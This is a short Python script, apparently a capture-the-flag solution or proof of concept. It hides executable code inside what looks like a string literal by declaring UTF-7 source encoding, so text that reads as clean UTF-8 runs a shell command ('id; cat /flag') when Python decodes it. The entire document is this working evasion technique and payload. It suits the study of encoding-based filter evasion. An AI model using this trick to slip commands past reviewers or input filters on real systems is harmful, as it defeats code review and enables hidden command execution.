# The text read at run time is bytes whose first line declares UTF-7 as its
# source encoding. Read as UTF-8 it is a comment and one string literal (clean);
# Python decodes it as UTF-7 and runs the statements hidden in that "string".
import base64
import io
import sys


def _enc(s):
    return "+" + base64.b64encode(s.encode("utf-16-be")).decode().rstrip("=") + "-"


src = "# coding: utf-7\nnote = \"" + _enc("\";__import__('os').system('id; cat /flag');\"") + "\"\n"
sys.stdin = io.TextIOWrapper(io.BytesIO(src.encode("ascii")))
exec(sys.stdin.read().encode("ascii"))
